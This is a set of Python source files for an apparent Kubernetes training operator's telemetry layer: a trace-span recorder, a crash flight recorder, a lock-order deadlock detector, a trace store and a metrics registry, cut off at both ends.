                if len(out) >= limit:
                    break
        nxt = out[-1]["seq"] if out else min(since, seq)
        return {"spans": out, "next": nxt, "seq": seq}

    def tail(self, n: int = 20) -> list:
        with self._lock:
            return list(self.spans)[-n:]

    def find(self, trace_id: str) -> list:
        with self._lock:
            return [s for s in self.spans if s["trace_id"] == trace_id]

    def reset(self):
        with self._lock:
            self.spans.clear()


#: Process-wide tracer.  KO_TELEMETRY_DIR (read lazily by
#: configure_from_env) points its flush stream at <dir>/spans.jsonl.
TRACER = Tracer()


def get_tracer() -> Tracer:
    return TRACER


def configure_from_env(default_dir: str | None = None) -> str | None:
    """Wire the process tracer's JSONL flush from KO_TELEMETRY_DIR
    (falling back to ``default_dir``, e.g. the run's checkpoint dir).
    Returns the spans path or None when neither is set."""
    d = os.environ.get("KO_TELEMETRY_DIR", "") or (default_dir or "")
    if not d:
        return None
    path = os.path.join(d, SPANS_FILENAME)
    try:
        TRACER.configure(path)
    except OSError:
        return None  # unwritable dir — keep the in-memory ring only
    return path


@contextlib.contextmanager
def trace_context(trace_id: str):
    """Adopt an existing trace id in this context without opening a
    span (cross-thread re-entry: engine workers, notification threads)."""
    token = _CURRENT.set((trace_id, None))
    try:
        yield
    finally:
        _CURRENT.reset(token)
