"""Trace-correlated spans across both planes (ISSUE 4 tentpole).

One ``Tracer`` per process records named wall-clock spans carrying a
**trace id** that propagates end-to-end:

  ops plane:   API request -> task -> taskengine phase -> runner
               invocation -> doctor probe/repair -> notification
  workload:    launch -> train step -> checkpoint save

Propagation mechanics:

* Within a thread: a ``contextvars.ContextVar`` holds the current
  (trace_id, span_id); nested ``span()`` calls inherit it as parent.
* Across the API->engine thread hop: ``service._make_task`` stamps the
  current trace id into the task doc; the engine worker re-enters the
  trace with ``span(..., trace_id=task["trace_id"])``.
* Across fire-and-forget threads (notifications): the caller captures
  ``current_trace_id()`` before spawning and passes it explicitly.

Finished spans land in a bounded in-memory ring (introspection, tests)
and — when a flush path is configured (``KO_TELEMETRY_DIR`` or
``Tracer.configure``) — are appended immediately as one JSON line each
to ``spans.jsonl``, so the tail of the file is the last thing the
process did before dying (tools/sweep.py attaches exactly that to its
rc-triage block).

Span schema (one JSONL object):

  {"trace_id": "16-hex", "span_id": "16-hex", "parent_id": "...|null",
   "name": "taskengine.phase", "start": <unix ts>, "wall_s": <float>,
   "attrs": {...}}
"""

import contextlib
import contextvars
import json
import os
import threading
import time
import uuid
from collections import deque

#: (trace_id, span_id) of the innermost open span in this context.
_CURRENT = contextvars.ContextVar("ko_current_span", default=None)

SPANS_FILENAME = "spans.jsonl"


def new_trace_id() -> str:
    return uuid.uuid4().hex[:16]


def current_trace_id() -> str | None:
    cur = _CURRENT.get()
    return cur[0] if cur else None


def current_span_id() -> str | None:
    cur = _CURRENT.get()
    return cur[1] if cur else None


class Tracer:
    """Thread-safe span recorder with an optional JSONL flush path."""

    def __init__(self, jsonl_path: str | None = None, max_spans: int = 4096,
                 now_fn=time.time):
        self._lock = threading.Lock()
        self._io_lock = threading.Lock()
        self.spans: deque = deque(maxlen=max_spans)
        self.now_fn = now_fn
        self.jsonl_path = None
        self.max_bytes = 0  # 0 = rotation disabled
        self._flushed_bytes = 0
        if jsonl_path:
            self.configure(jsonl_path)

    def configure(self, jsonl_path: str | None, max_mb: float | None = None):
        """Point the flush stream at a file (parent dir created); None
        disables flushing (ring only).  ``max_mb`` (default
        KO_TELEMETRY_SPANS_MB, 64) bounds the file: past the cap it is
        rotated to ``<path>.1`` — one rotated generation kept — so a
        long training run cannot fill the disk."""
        if max_mb is None:
            try:
                max_mb = float(os.environ.get("KO_TELEMETRY_SPANS_MB", "64"))
            except ValueError:
                max_mb = 64.0
        with self._lock:
            self.jsonl_path = jsonl_path
            self.max_bytes = int(max_mb * 1024 * 1024) if max_mb > 0 else 0
            self._flushed_bytes = 0
            if jsonl_path:
                parent = os.path.dirname(os.path.abspath(jsonl_path))
                os.makedirs(parent, exist_ok=True)
                try:
                    self._flushed_bytes = os.path.getsize(jsonl_path)
                except OSError:
                    pass  # no file yet
        return self

    @contextlib.contextmanager
    def span(self, name: str, trace_id: str | None = None,
             parent_id: str | None = None, attrs: dict | None = None):
        """Record one span.  Yields the (mutable) span dict so callers
        can add attrs mid-flight; ``wall_s`` is filled at exit.

        trace resolution: explicit ``trace_id`` > the context's current
        trace > a freshly minted one.  ``parent_id`` defaults to the
        context's current span when the trace is inherited (an explicit
        foreign trace_id starts a new lineage unless parent_id given).
        """
        cur = _CURRENT.get()
        if trace_id is None:
            if cur:
                trace_id = cur[0]
                if parent_id is None:
                    parent_id = cur[1]
            else:
                trace_id = new_trace_id()
        elif cur and cur[0] == trace_id and parent_id is None:
            parent_id = cur[1]
        span_id = uuid.uuid4().hex[:16]
        rec = {
            "trace_id": trace_id,
            "span_id": span_id,
            "parent_id": parent_id,
            "name": name,
            "start": self.now_fn(),
            "wall_s": None,
            "attrs": dict(attrs or {}),
        }
        token = _CURRENT.set((trace_id, span_id))
        t0 = time.perf_counter()
        try:
            yield rec
        finally:
            _CURRENT.reset(token)
            rec["wall_s"] = round(time.perf_counter() - t0, 6)
            self.record(rec)

    def emit(self, name: str, start: float, wall_s: float,
             attrs: dict | None = None, trace_id: str | None = None,
             parent_id: str | None = None) -> dict:
        """Record an already-finished span — for callers that measure a
        window themselves (e.g. launch.py's 20-step reporting window)
        rather than bracketing it with ``span()``."""
        cur = _CURRENT.get()
        if trace_id is None:
            trace_id = cur[0] if cur else new_trace_id()
        if parent_id is None and cur and cur[0] == trace_id:
            parent_id = cur[1]
        rec = {
            "trace_id": trace_id,
            "span_id": uuid.uuid4().hex[:16],
            "parent_id": parent_id,
            "name": name,
            "start": start,
            "wall_s": round(wall_s, 6),
            "attrs": dict(attrs or {}),
        }
        self.record(rec)
        return rec

    def record(self, rec: dict):
        with self._lock:
            self.spans.append(rec)
            path = self.jsonl_path
            max_bytes = self.max_bytes
        if path:
            line = json.dumps(rec) + "\n"
            try:
                # _io_lock serializes append + rotate across threads
                # (the ring lock stays write-only and uncontended).
                with self._io_lock:
                    if (max_bytes and self._flushed_bytes > 0
                            and self._flushed_bytes + len(line) > max_bytes):
                        os.replace(path, path + ".1")
                        self._flushed_bytes = 0
                    with open(path, "a") as f:
                        f.write(line)
                    self._flushed_bytes += len(line)
            except OSError:
                pass  # telemetry must never take down the workload

    def tail(self, n: int = 20) -> list:
        with self._lock:
            return list(self.spans)[-n:]

    def find(self, trace_id: str) -> list:
        with self._lock:
            return [s for s in self.spans if s["trace_id"] == trace_id]

    def reset(self):
        with self._lock:
            self.spans.clear()


#: Process-wide tracer.  KO_TELEMETRY_DIR (read lazily by
#: configure_from_env) points its flush stream at <dir>/spans.jsonl.
TRACER = Tracer()


def get_tracer() -> Tracer:
    return TRACER


def configure_from_env(default_dir: str | None = None) -> str | None:
    """Wire the process tracer's JSONL flush from KO_TELEMETRY_DIR
    (falling back to ``default_dir``, e.g. the run's checkpoint dir).
    Returns the spans path or None when neither is set."""
    d = os.environ.get("KO_TELEMETRY_DIR", "") or (default_dir or "")
    if not d:
        return None
    path = os.path.join(d, SPANS_FILENAME)
    try:
        TRACER.configure(path)
    except OSError:
        return None  # unwritable dir — keep the in-memory ring only
    return path


@contextlib.contextmanager
def trace_context(trace_id: str):
    """Adopt an existing trace id in this context without opening a
    span (cross-thread re-entry: engine workers, notification threads)."""
    token = _CURRENT.set((trace_id, None))
    try:
        yield
    finally:
        _CURRENT.reset(token)
