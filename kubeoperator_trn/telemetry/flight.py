"""Crash flight recorder (ISSUE 8): last-known telemetry for postmortems.

When a task phase dies (nonzero rc — including ``KO_EXIT_PREEMPTED``
checkpoint-exits) the taskengine calls :func:`write_flight_record`,
which snapshots everything the observability plane knew at that moment
into ``$KO_TELEMETRY_DIR/flight_<task>_<ts>.json``:

    {"task_id", "op", "phase", "rc", "ts", "trace_id", "reason",
     "targets": [collector target status],
     "samples": [every series' latest point from the store],
     "spans":   [tracer ring tail, newest last]}

The write is tmp+rename (crash-safe, same as checkpoint manifests) and
wrapped so telemetry can never take the engine down.  ``tools/sweep.py``
triage prefers this snapshot over the raw ``spans.jsonl`` tail when one
exists — a chip crash then carries final metric values, not just spans.
"""

import json
import os
import time

__all__ = ["write_flight_record", "find_flight_records", "load_flight_record"]

FLIGHT_PREFIX = "flight_"


def write_flight_record(dir_path: str, task: dict, phase: dict | None = None,
                        collector=None, tracer=None, reason: str = "",
                        span_tail: int = 40, now_fn=time.time) -> str | None:
    """Snapshot collector+store+tracer state for a dead task; returns
    the written path or None (no dir / write failed)."""
    if not dir_path:
        return None
    now = now_fn()
    rec = {
        "task_id": task.get("id", ""),
        "op": task.get("op", ""),
        "phase": (phase or {}).get("name", ""),
        "rc": (phase or {}).get("rc"),
        "ts": round(now, 3),
        "trace_id": task.get("trace_id"),
        "reason": reason,
        "targets": [],
        "samples": [],
        "spans": [],
    }
    try:
        if collector is not None:
            rec["targets"] = collector.targets()
            rec["samples"] = collector.store.dump_latest()
        if tracer is not None:
            rec["spans"] = tracer.tail(span_tail)
    except Exception:  # noqa: BLE001 — snapshot what we can
        pass
    fname = f"{FLIGHT_PREFIX}{rec['task_id'] or 'unknown'}_{int(now)}.json"
    path = os.path.join(dir_path, fname)
    tmp = path + ".tmp"
    try:
        os.makedirs(dir_path, exist_ok=True)
        with open(tmp, "w") as f:
            json.dump(rec, f, indent=1)
        os.replace(tmp, path)
    except OSError:
        return None
    return path


def find_flight_records(dir_path: str) -> list:
    """Flight-record paths in ``dir_path``, oldest first."""
    try:
        names = sorted(n for n in os.listdir(dir_path)
                       if n.startswith(FLIGHT_PREFIX) and n.endswith(".json"))
    except OSError:
        return []
    return [os.path.join(dir_path, n) for n in names]


def load_flight_record(path: str) -> dict | None:
    try:
        with open(path) as f:
            return json.load(f)
    except (OSError, json.JSONDecodeError):
        return None
