"""Runtime lock-order race detector (ISSUE 14, kolint's runtime half).

Static rule KL001 can say "don't block while holding a lock", but
lock-ORDER bugs — thread 1 takes A then B while thread 2 takes B then
A — only exist at runtime, across modules, under load.  This module is
the lockdep-style detector for them:

    from kubeoperator_trn.telemetry.locktrace import make_lock
    self._lock = make_lock("gateway.state")

With ``KO_LOCKCHECK`` unset, ``make_lock`` returns a plain
``threading.Lock`` — zero overhead, production default.  With
``KO_LOCKCHECK=1`` it returns a :class:`TracedLock` that records, per
thread, the order locks are acquired into a process-wide
:class:`LockGraph`: an edge ``A->B`` means some thread acquired B
while already holding A.  A **cycle** in that graph is a potential
deadlock even if this particular run never interleaved badly — which
is the point: the tier-1 drill only has to *traverse* both orders
once, not lose the race, to prove the hazard.

The graph also records **long holds** (a lock held longer than
``KO_LOCKCHECK_HOLD_MS``, default 200) and — when the optional sleep
probe is installed — ``time.sleep`` calls made while any traced lock
is held (the runtime twin of KL001).

``report()`` snapshots everything and, when a tracer is flushing,
emits one ``lockcheck.report`` span so findings land in the same
spans.jsonl as the traffic that produced them (ARCHITECTURE.md
"Telemetry plane"); cycles/blocking counts ride in the span attrs.

Lock *names* are the graph nodes: instances sharing a name share a
node.  Name locks by role (``"taskengine.claim"``), not by instance,
so the graph stays small and orders generalize across replicas.
"""

import os
import threading
import time


def enabled() -> bool:
    return os.environ.get("KO_LOCKCHECK", "0") == "1"


def hold_threshold_s() -> float:
    return float(os.environ.get("KO_LOCKCHECK_HOLD_MS", "200")) / 1000.0


class LockGraph:
    """Acquisition-order edges + event buffers, shared by all
    TracedLocks pointed at it.  Internal bookkeeping uses a plain lock
    (never a TracedLock: the detector must not trace itself)."""

    def __init__(self):
        self._mu = threading.Lock()
        self.edges = {}        # (held_name, acquired_name) -> count
        self.acquires = {}     # lock_name -> total acquisitions
        self.long_holds = []   # {"lock", "held_s", "thread"}
        self.blocking = []     # {"lock", "call", "thread"}
        self._tls = threading.local()

    def _held(self):
        stack = getattr(self._tls, "stack", None)
        if stack is None:
            stack = self._tls.stack = []
        return stack

    def held_names(self):
        return [lk.name for lk, _t0 in self._held()]

    def on_acquire(self, lock):
        stack = self._held()
        with self._mu:
            self.acquires[lock.name] = self.acquires.get(lock.name, 0) + 1
            for held, _t0 in stack:
                if held.name != lock.name:
                    edge = (held.name, lock.name)
                    self.edges[edge] = self.edges.get(edge, 0) + 1
        stack.append((lock, time.monotonic()))

    def on_release(self, lock, threshold_s):
        stack = self._held()
        for i in range(len(stack) - 1, -1, -1):
            if stack[i][0] is lock:
                _, t0 = stack.pop(i)
                held_s = time.monotonic() - t0
                if held_s >= threshold_s:
                    with self._mu:
                        self.long_holds.append({
                            "lock": lock.name,
                            "held_s": round(held_s, 4),
                            "thread": threading.current_thread().name,
                        })
                return

    def note_blocking(self, call: str):
        stack = self._held()
        if stack:
            with self._mu:
                self.blocking.append({
                    "lock": stack[-1][0].name,
                    "call": call,
                    "thread": threading.current_thread().name,
                })

    def cycles(self):
        """Simple cycles in the order graph, each as a node list with
        the start repeated last (['a', 'b', 'a']).  Any cycle = two
        threads can deadlock by interleaving those acquisitions."""
        with self._mu:
            adj = {}
            for a, b in self.edges:
                adj.setdefault(a, set()).add(b)
        out, seen = [], set()

        def dfs(node, path, on_path):
            for nxt in sorted(adj.get(node, ())):
                if nxt in on_path:
                    cyc = path[path.index(nxt):] + [nxt]
                    key = frozenset(cyc)
                    if key not in seen:
                        seen.add(key)
                        out.append(cyc)
                    continue
                dfs(nxt, path + [nxt], on_path | {nxt})

        for start in sorted(adj):
            dfs(start, [start], {start})
        return out

    def snapshot(self) -> dict:
        with self._mu:
            edges = {f"{a}->{b}": n for (a, b), n in sorted(self.edges.items())}
            acquires = dict(sorted(self.acquires.items()))
            long_holds = list(self.long_holds)
            blocking = list(self.blocking)
        return {"edges": edges, "acquires": acquires,
                "cycles": self.cycles(),
                "long_holds": long_holds, "blocking": blocking}


class TracedLock:
    """Drop-in for threading.Lock that reports acquisition order,
    hold times, and held-state to a LockGraph."""

    def __init__(self, name: str, graph: LockGraph,
                 threshold_s: float | None = None):
        self.name = name
        self._graph = graph
        self._threshold = (hold_threshold_s() if threshold_s is None
                           else threshold_s)
        self._inner = threading.Lock()

    def acquire(self, blocking=True, timeout=-1):
        ok = self._inner.acquire(blocking, timeout)
        if ok:
            self._graph.on_acquire(self)
        return ok

    def release(self):
        self._graph.on_release(self, self._threshold)
        self._inner.release()

    def locked(self):
        return self._inner.locked()

    def __enter__(self):
        self.acquire()
        return self

    def __exit__(self, *exc):
        self.release()
        return False

    def __repr__(self):
        return f"<TracedLock {self.name!r} locked={self.locked()}>"


#: process-wide graph all make_lock() locks report into.
_GRAPH = LockGraph()


def get_graph() -> LockGraph:
    return _GRAPH


def reset() -> LockGraph:
    """Fresh process-wide graph (tests).  Locks made before the reset
    keep reporting into the old graph — re-create subsystems after."""
    global _GRAPH
    _GRAPH = LockGraph()
    return _GRAPH


def make_lock(name: str, graph: LockGraph | None = None):
    """The one call sites use.  Plain Lock when KO_LOCKCHECK is off."""
    if not enabled():
        return threading.Lock()
    return TracedLock(name, graph if graph is not None else _GRAPH)


# -- optional sleep probe (runtime twin of KL001) ----------------------

_real_sleep = None


def install_sleep_probe():
    """Wrap time.sleep to record sleeps made while a traced lock is
    held.  Explicit install/uninstall (tests, drills) — never automatic,
    since patching time.sleep is process-global."""
    global _real_sleep
    if _real_sleep is not None:
        return
    _real_sleep = time.sleep

    def traced_sleep(seconds):
        _GRAPH.note_blocking(f"time.sleep({seconds})")
        _real_sleep(seconds)

    time.sleep = traced_sleep


def uninstall_sleep_probe():
    global _real_sleep
    if _real_sleep is not None:
        time.sleep = _real_sleep
        _real_sleep = None


def report(graph: LockGraph | None = None, emit_span: bool = True) -> dict:
    """Snapshot {edges, cycles, long_holds, blocking}; when tracing is
    live, also emit a lockcheck.report span carrying the counts so the
    findings correlate with the run's other spans."""
    g = graph if graph is not None else _GRAPH
    rep = g.snapshot()
    if emit_span:
        try:
            from kubeoperator_trn.telemetry.tracing import get_tracer

            get_tracer().emit(
                "lockcheck.report", time.time(), 0.0,
                attrs={"edges": len(rep["edges"]),
                       "cycles": len(rep["cycles"]),
                       "long_holds": len(rep["long_holds"]),
                       "blocking": len(rep["blocking"])})
        except Exception:
            pass  # telemetry must never take down the workload
    return rep
