"""Unified telemetry plane (ISSUE 4): metrics registry + span tracer.

Every subsystem on both planes imports from here:

    from kubeoperator_trn.telemetry import get_registry, get_tracer

Metric names follow ``ko_<plane>_<subsystem>_<name>`` (ARCHITECTURE.md
"Telemetry plane"); spans carry one trace id from API request through
engine phases to notification, and from launch through train steps to
checkpoint saves.
"""

from kubeoperator_trn.telemetry.metrics import (  # noqa: F401
    DEFAULT_BUCKETS,
    Counter,
    Gauge,
    Histogram,
    MetricsRegistry,
    REGISTRY,
    escape_label_value,
    get_registry,
    log_buckets,
)
from kubeoperator_trn.telemetry.locktrace import (  # noqa: F401
    LockGraph,
    TracedLock,
    make_lock,
)
from kubeoperator_trn.telemetry.store import (  # noqa: F401
    SeriesStore,
    parse_prometheus_text,
)
from kubeoperator_trn.telemetry.tracestore import (  # noqa: F401
    TraceStore,
)
from kubeoperator_trn.telemetry.tracing import (  # noqa: F401
    SPANS_FILENAME,
    TRACER,
    Tracer,
    configure_from_env,
    current_span_id,
    current_trace_id,
    get_tracer,
    head_sampled,
    new_trace_id,
    trace_context,
    trace_sample_rate,
    trace_slow_ms,
)
