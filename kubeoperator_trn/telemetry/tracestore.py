"""Bounded cross-replica trace assembly (ISSUE 19 tentpole).

The collector's scrape pass pulls each replica's span ring through the
cursor-paginated ``/spans`` endpoint and lands the pages here.  Spans
are grouped **purely by trace_id** — no clock agreement between
replicas is assumed, so skew between their ``time.time()`` readings
can only distort display offsets, never the grouping; the assembled
waterfall marks the spans where skew is visible (a child that
apparently starts before its parent on another replica).

Bounds: every trace carries a TTL from its last update
(``KO_OBS_TRACE_TTL_S``), and a global span cap
(``KO_OBS_TRACE_MAX_SPANS``) evicts whole traces oldest-first so a
busy fleet cannot grow the store without limit.  Both ingest and the
two read paths (:meth:`get` waterfall assembly, :meth:`list_traces`)
are lock-guarded: the scrape thread writes, API threads read.
"""

import os
import threading
import time

__all__ = ["TraceStore"]

#: name -> waterfall gap bucket (anything else lands in "other").
_GAP_BUCKETS = {
    "infer.queue": "queue_ms",
    "infer.prefill_chunk": "prefill_compute_ms",
    "infer.prefill": "prefill_compute_ms",
    "handoff.ship": "handoff_wire_ms",
    "handoff.import": "handoff_wire_ms",
    "infer.decode_window": "decode_ms",
}


def _env_f(name: str, default: float) -> float:
    try:
        return float(os.environ.get(name, str(default)))
    except ValueError:
        return default


def _span_error(span: dict) -> bool:
    attrs = span.get("attrs") or {}
    return bool(attrs.get("error") or attrs.get("cancelled")
                or attrs.get("status") == "error")


class TraceStore:
    """trace_id -> span list, TTL'd and globally span-capped."""

    def __init__(self, ttl_s: float | None = None,
                 max_spans: int | None = None, now_fn=time.time):
        self.ttl_s = (_env_f("KO_OBS_TRACE_TTL_S", 600.0)
                      if ttl_s is None else float(ttl_s))
        self.max_spans = int(_env_f("KO_OBS_TRACE_MAX_SPANS", 20000.0)
                             if max_spans is None else max_spans)
        self.now_fn = now_fn
        self._lock = threading.Lock()
        #: trace_id -> {"spans": [..], "ids": set, "updated": ts}
        self._traces: dict = {}
        self._span_total = 0

    # ------------------------------------------------------------ write

    def ingest(self, spans: list, replica: str | None = None) -> int:
        """Add one exported page.  Each span is stamped with the
        replica (collector target) it came from; re-delivered spans
        (same span_id within the trace) are dropped so an overlapping
        cursor never double-counts.  Returns spans actually stored."""
        now = self.now_fn()
        stored = 0
        with self._lock:
            for span in spans:
                tid = span.get("trace_id")
                sid = span.get("span_id")
                if not tid or not sid:
                    continue
                tr = self._traces.get(tid)
                if tr is None:
                    tr = self._traces[tid] = {"spans": [], "ids": set(),
                                              "updated": now}
                if sid in tr["ids"]:
                    continue
                rec = dict(span)
                rec["replica"] = replica
                tr["spans"].append(rec)
                tr["ids"].add(sid)
                tr["updated"] = now
                self._span_total += 1
                stored += 1
            self._evict_locked(now)
        return stored

    def _evict_locked(self, now: float):
        # TTL first: traces idle past their TTL go regardless of size.
        if self.ttl_s > 0:
            horizon = now - self.ttl_s
            for tid in [t for t, tr in self._traces.items()
                        if tr["updated"] < horizon]:
                self._span_total -= len(self._traces[tid]["spans"])
                del self._traces[tid]
        # Then the global span cap: evict whole traces, oldest update
        # first, until under the cap (a partial trace is useless).
        while self._span_total > self.max_spans and len(self._traces) > 1:
            tid = min(self._traces, key=lambda t: self._traces[t]["updated"])
            self._span_total -= len(self._traces[tid]["spans"])
            del self._traces[tid]

    def prune(self, now: float | None = None):
        with self._lock:
            self._evict_locked(self.now_fn() if now is None else now)

    # ------------------------------------------------------------- read

    def span_count(self) -> int:
        with self._lock:
            return self._span_total

    def trace_count(self) -> int:
        with self._lock:
            return len(self._traces)

    def get(self, trace_id: str) -> dict | None:
        """Assembled waterfall for one trace, or None.

        Spans sorted by start; each carries its parent link, a
        per-replica lane index, offset/duration in ms relative to the
        earliest span, an ``orphan`` flag (parent_id names a span not
        in the trace) and a ``skew`` flag (starts before its parent on
        a *different* replica — a clock-skew artifact, since lineage
        guarantees the child really started later).  ``gaps``
        attributes the root span's wall time to
        queue / prefill-compute / handoff-wire / decode.
        """
        with self._lock:
            tr = self._traces.get(trace_id)
            if tr is None:
                return None
            spans = [dict(s) for s in tr["spans"]]
        spans.sort(key=lambda s: (s.get("start") or 0.0))
        by_id = {s["span_id"]: s for s in spans}
        t0 = min((s.get("start") or 0.0) for s in spans) if spans else 0.0
        lanes = sorted({str(s.get("replica")) for s in spans})
        lane_of = {r: i for i, r in enumerate(lanes)}
        gaps = {"queue_ms": 0.0, "prefill_compute_ms": 0.0,
                "handoff_wire_ms": 0.0, "decode_ms": 0.0}
        root = None
        skewed = False
        out = []
        for s in spans:
            start = s.get("start") or 0.0
            wall = s.get("wall_s") or 0.0
            parent = by_id.get(s.get("parent_id") or "")
            skew = bool(parent is not None
                        and parent.get("replica") != s.get("replica")
                        and start < (parent.get("start") or 0.0))
            skewed = skewed or skew
            bucket = _GAP_BUCKETS.get(s.get("name") or "")
            if bucket:
                gaps[bucket] += wall * 1e3
            name = s.get("name") or ""
            if name == "gw.request" or (root is None
                                        and name == "infer.request"):
                root = s
            out.append({
                "name": name,
                "span_id": s["span_id"],
                "parent_id": s.get("parent_id"),
                "replica": s.get("replica"),
                "lane": lane_of[str(s.get("replica"))],
                "start": round(start, 6),
                "offset_ms": round((start - t0) * 1e3, 3),
                "dur_ms": round(wall * 1e3, 3),
                "attrs": dict(s.get("attrs") or {}),
                "orphan": bool(s.get("parent_id")
                               and s["parent_id"] not in by_id),
                "skew": skew,
            })
        if root is not None:
            total = (root.get("wall_s") or 0.0) * 1e3
        elif spans:
            total = (max((s.get("start") or 0.0) + (s.get("wall_s") or 0.0)
                         for s in spans) - t0) * 1e3
        else:
            total = 0.0
        attributed = sum(gaps.values())
        gaps = {k: round(v, 3) for k, v in gaps.items()}
        gaps["total_ms"] = round(total, 3)
        gaps["other_ms"] = round(max(0.0, total - attributed), 3)
        return {
            "trace_id": trace_id,
            "spans": out,
            "lanes": lanes,
            "gaps": gaps,
            "duration_ms": round(total, 3),
            "has_error": any(_span_error(s) for s in spans),
            "orphans": sum(1 for s in out if s["orphan"]),
            "clock_note": (
                "offsets use each replica's local clock; cross-replica "
                "offsets include skew"
                + (" (skew visible on flagged spans)" if skewed else "")),
        }

    def list_traces(self, slow_ms: float | None = None,
                    error: bool = False, limit: int = 50) -> list:
        """Retained-trace summaries, most recently updated first,
        optionally filtered to slow (duration >= slow_ms) and/or
        erroring traces."""
        limit = max(1, min(int(limit), 500))
        with self._lock:
            items = [(tid, list(tr["spans"]), tr["updated"])
                     for tid, tr in self._traces.items()]
        items.sort(key=lambda it: it[2], reverse=True)
        out = []
        for tid, spans, updated in items:
            starts = [s.get("start") or 0.0 for s in spans]
            ends = [(s.get("start") or 0.0) + (s.get("wall_s") or 0.0)
                    for s in spans]
            dur_ms = (max(ends) - min(starts)) * 1e3 if spans else 0.0
            root = next((s for s in spans
                         if s.get("name") in ("gw.request",
                                              "infer.request")), None)
            if root is not None:
                dur_ms = max(dur_ms, (root.get("wall_s") or 0.0) * 1e3)
            has_error = any(_span_error(s) for s in spans)
            if slow_ms is not None and dur_ms < float(slow_ms):
                continue
            if error and not has_error:
                continue
            out.append({
                "trace_id": tid,
                "spans": len(spans),
                "replicas": sorted({str(s.get("replica"))
                                    for s in spans}),
                "duration_ms": round(dur_ms, 3),
                "has_error": has_error,
                "updated": round(updated, 3),
            })
            if len(out) >= limit:
                break
        return out
