"""In-process metrics registry (ISSUE 4 tentpole, SURVEY §5.1/§5.5).

Dependency-free Prometheus-style instruments — Counter, Gauge,
Histogram — with labeled child series, one process-wide registry, and
text exposition for the ``/metrics`` endpoints on both planes
(cluster/api.py, infer/server.py).

Naming scheme (enforced by convention, documented in ARCHITECTURE.md
"Telemetry plane"): ``ko_<plane>_<subsystem>_<name>`` where plane is
``ops`` (control plane) or ``work`` (training/inference workload),
e.g. ``ko_ops_taskengine_phase_seconds``,
``ko_work_infer_ttft_seconds``.

Concurrency: one RLock per registry guards metric creation and the
exposition walk; each instrument carries its own lock for hot-path
updates so two worker threads bumping different counters never
serialize on the registry.

Histograms use fixed log-spaced bucket bounds (``log_buckets``) —
cumulative counts per bound plus +Inf, _sum and _count, exactly the
Prometheus histogram contract — and additionally track the exact
min/max so bench.py can report true worst-case step latency, not a
bucket upper bound.
"""

import math
import threading

# Default latency bounds: 16 log-spaced buckets, 1 ms .. ~32.8 s
# (factor 2).  Wide enough for API requests and train steps alike.
def log_buckets(start: float = 1e-3, factor: float = 2.0,
                count: int = 16) -> tuple:
    """Fixed log-spaced histogram bounds: start * factor**i."""
    if start <= 0 or factor <= 1 or count < 1:
        raise ValueError("need start > 0, factor > 1, count >= 1")
    return tuple(start * factor ** i for i in range(count))


DEFAULT_BUCKETS = log_buckets()


def escape_label_value(v: str) -> str:
    """Prometheus text-format label escaping: backslash, quote, newline."""
    return (str(v).replace("\\", "\\\\").replace('"', '\\"')
            .replace("\n", "\\n"))


def format_value(v: float) -> str:
    if v != v:  # NaN
        return "NaN"
    if v == math.inf:
        return "+Inf"
    if v == -math.inf:
        return "-Inf"
    if float(v).is_integer() and abs(v) < 1e15:
        return str(int(v))
    return repr(float(v))


def _label_suffix(label_names, label_values) -> str:
    if not label_names:
        return ""
    inner = ",".join(
        f'{k}="{escape_label_value(v)}"'
        for k, v in zip(label_names, label_values)
    )
    return "{" + inner + "}"


class _Metric:
    """Shared family machinery: labeled children keyed by label-value
    tuple; the zero-label child is the family itself (created eagerly so
    unlabeled metrics expose a series immediately, not only once
    touched)."""

    kind = "untyped"

    def __init__(self, name: str, help: str, label_names=()):
        self.name = name
        self.help = help
        self.label_names = tuple(label_names)
        self._lock = threading.Lock()
        self._children: dict = {}
        if not self.label_names:
            self._children[()] = self._new_child()

    def _new_child(self):
        raise NotImplementedError

    def labels(self, **kv):
        if set(kv) != set(self.label_names):
            raise ValueError(
                f"{self.name}: expected labels {self.label_names}, "
                f"got {tuple(sorted(kv))}")
        key = tuple(str(kv[k]) for k in self.label_names)
        with self._lock:
            child = self._children.get(key)
            if child is None:
                child = self._children[key] = self._new_child()
        return child

    def _default(self):
        if self.label_names:
            raise ValueError(f"{self.name} has labels {self.label_names}; "
                             "use .labels(...)")
        return self._children[()]

    def samples(self):
        """Yield (suffix, label_names, label_values, value) rows."""
        with self._lock:
            items = list(self._children.items())
        for key, child in items:
            yield from child.samples(self.label_names, key)

    def expose(self) -> list:
        lines = [f"# HELP {self.name} {self.help}",
                 f"# TYPE {self.name} {self.kind}"]
        for suffix, names, values, value in self.samples():
            lines.append(f"{self.name}{suffix}"
                         f"{_label_suffix(names, values)} "
                         f"{format_value(value)}")
        return lines


class _CounterChild:
    __slots__ = ("_lock", "_value")

    def __init__(self):
        self._lock = threading.Lock()
        self._value = 0.0

    def inc(self, amount: float = 1.0):
        if amount < 0:
            raise ValueError("counters only go up")
        with self._lock:
            self._value += amount

    @property
    def value(self):
        with self._lock:
            return self._value

    def samples(self, names, values):
        yield "", names, values, self.value


class Counter(_Metric):
    kind = "counter"

    def _new_child(self):
        return _CounterChild()

    def inc(self, amount: float = 1.0):
        self._default().inc(amount)

    @property
    def value(self):
        return self._default().value


class _GaugeChild:
    __slots__ = ("_lock", "_value")

    def __init__(self):
        self._lock = threading.Lock()
        self._value = 0.0

    def set(self, value: float):
        with self._lock:
            self._value = float(value)

    def inc(self, amount: float = 1.0):
        with self._lock:
            self._value += amount

    def dec(self, amount: float = 1.0):
        self.inc(-amount)

    @property
    def value(self):
        with self._lock:
            return self._value

    def samples(self, names, values):
        yield "", names, values, self.value


class Gauge(_Metric):
    kind = "gauge"

    def _new_child(self):
        return _GaugeChild()

    def set(self, value: float):
        self._default().set(value)

    def inc(self, amount: float = 1.0):
        self._default().inc(amount)

    def dec(self, amount: float = 1.0):
        self._default().dec(amount)

    @property
    def value(self):
        return self._default().value


class _HistogramChild:
    __slots__ = ("_lock", "bounds", "counts", "sum", "count", "min", "max",
                 "exemplars")

    def __init__(self, bounds):
        self._lock = threading.Lock()
        self.bounds = bounds
        self.counts = [0] * (len(bounds) + 1)  # last slot = +Inf
        self.sum = 0.0
        self.count = 0
        self.min = math.inf
        self.max = -math.inf
        # Per-bucket exemplar: last (trace_id, value) observed with a
        # trace id, allocated lazily — histograms that never see a
        # trace id pay one None per child (ISSUE 19).
        self.exemplars = None

    def observe(self, value: float, trace_id: str | None = None):
        value = float(value)
        with self._lock:
            i = 0
            while i < len(self.bounds) and value > self.bounds[i]:
                i += 1
            self.counts[i] += 1
            self.sum += value
            self.count += 1
            self.min = min(self.min, value)
